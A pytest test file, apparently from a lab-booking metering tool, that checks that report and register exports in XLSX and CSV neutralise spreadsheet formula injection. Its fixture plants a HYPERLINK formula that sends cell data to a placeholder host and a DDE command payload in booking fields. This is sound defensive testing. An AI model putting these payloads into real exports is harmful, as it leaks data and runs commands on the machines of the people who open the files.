"""Exports are data, never code: a booking from an outside calendar whose summary is a
spreadsheet formula reaches the report's XLSX and CSV and the register's CSV as text.

The lab is ``lab_data``'s (real InfluxDB); the bookings are a CSV calendar, as a booking
system exports them, over pc-01's morning.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile
from pathlib import Path

import pytest

from labmeter.api.cells import FORMULA_START, inert, revived
from labmeter.api.register import from_csv
from labmeter.config import BookingsConfig, Config
from labmeter.influx import InfluxV1
from tests.api import lab_data
from tests.api.client import Api, make_api

HOSTILE = '=HYPERLINK("http://x/?"&A1,"y")'
ORGANISATIONS = ("+39 055 1234", "-cmd|' /C calc'!A0", "@SUM(1+1)")
BOUNDS = {"start": "2026-03-02T00:00:00+01:00", "end": "2026-03-03T00:00:00+01:00"}


def _row(n: int, device: str, organisation: str, activity: str, start: str, end: str) -> str:
    cells = [f"b{n}", lab_data.SITE, "lab-cad", device, start, end, organisation, "school",
             activity, "no", ""]  # fmt: skip
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow(cells)
    return buf.getvalue()


@pytest.fixture
def hostile_api(config: Config, influx: InfluxV1, tmp_path: Path) -> Api:
    influx.write_lines(lab_data.raw_lines() + lab_data.status_lines() + lab_data.event_lines())
    calendar = tmp_path / "bookings.csv"
    calendar.write_text(
        "id,site,lab,devices,start,end,organisation,category,activity,commercial,reference\n"
        # pc-03 never reports: a no-show, listed with its organisation and activity.
        + _row(1, "pc-03", ORGANISATIONS[0], HOSTILE, "2026-03-02 09:00", "2026-03-02 10:00")
        + _row(2, "pc-01", ORGANISATIONS[1], HOSTILE, "2026-03-02 10:00", "2026-03-02 10:30")
        + _row(3, "pc-01", ORGANISATIONS[2], "'=already", "2026-03-02 10:30", "2026-03-02 11:00")
        + _row(4, "pc-03", ORGANISATIONS[2], "-1", "2026-03-02 10:30", "2026-03-02 11:00"),
        encoding="utf-8",
    )
    sources = tmp_path / "sources.yaml"
    sources.write_text(f"version: 1\ncalendars:\n  - {{file: {calendar.name}}}\n")
    config = dataclasses.replace(config, bookings=BookingsConfig(sources=str(sources)))
    return make_api(config, tmp_path / "api", lab_data.inventory_file(tmp_path))


def _get(api: Api, path: str, **params: str) -> bytes:
    response = api.client.get(path, params=params, headers={"X-API-Key": api.tokens["evaluator"]})  # type: ignore[index]
    assert response.status_code == 200, response.text
    return response.content


def test_the_report_xlsx_holds_the_formula_as_text(hostile_api: Api) -> None:
    from openpyxl import load_workbook

    body = _get(hostile_api, "/api/v1/report", **BOUNDS, format="xlsx")
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in s or "<f " in s for s in sheets)  # no formula anywhere
    book = load_workbook(io.BytesIO(body))
    texts = {c.value: c for ws in book for row in ws.iter_rows() for c in row if c.value}
    for value in (HOSTILE, *ORGANISATIONS, "-1"):
        cell = texts[value]
        assert cell.data_type == "s" and cell.quotePrefix, (value, cell.data_type)
    # Numbers stay numbers.
    numbers = [c.value for ws in book for row in ws.iter_rows() for c in row]
    assert any(isinstance(v, float) and v > 0 for v in numbers)


def test_the_report_csv_quotes_the_formula_and_keeps_numbers(hostile_api: Api) -> None:
    text = _get(hostile_api, "/api/v1/report", **BOUNDS, format="csv").decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]
    assert "'" + HOSTILE in cells and HOSTILE not in cells
    for organisation in ORGANISATIONS:
        assert "'" + organisation in cells and organisation not in cells
    assert "'-1" in cells
    unsafe = [c for c in cells if c[:1] in FORMULA_START and not _number(c)]
    assert unsafe == []
    assert any(_number(c) for c in cells)


def _number(cell: str) -> bool:
    try:
        float(cell.replace(".", "").replace(",", "."))
    except ValueError:
        return False
    return True


def test_the_register_csv_quotes_the_formula_and_reads_back(hostile_api: Api) -> None:
    body = _get(hostile_api, "/api/v1/register", lab="lab-cad", day="2026-03-02", format="csv")
    text = body.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]
    assert "'" + HOSTILE in cells and HOSTILE not in cells
    assert "'" + ORGANISATIONS[1] in cells
    assert [c for c in cells if c[:1] in FORMULA_START] == []
    sessions = from_csv(text)  # and back, exactly
    assert (HOSTILE, ORGANISATIONS[1]) in {(s["activity"], s["organisation"]) for s in sessions}
    registered = _get(hostile_api, "/api/v1/register", lab="lab-cad", day="2026-03-02")
    assert HOSTILE.encode() in registered.replace(b'\\"', b'"')  # JSON keeps it as it is


@pytest.mark.parametrize(
    "text", ["", "plain", "=1+1", "'=1+1", "''=x", "'", "''", "-", "+", "@", "\t", "\r\n", "'a"]
)
def test_inert_text_reads_back_exactly(text: str) -> None:
    cell = inert(text)
    assert cell.lstrip("'")[:1] not in FORMULA_START or cell.startswith("'")
    assert cell[:1] not in FORMULA_START
    assert revived(cell) == text
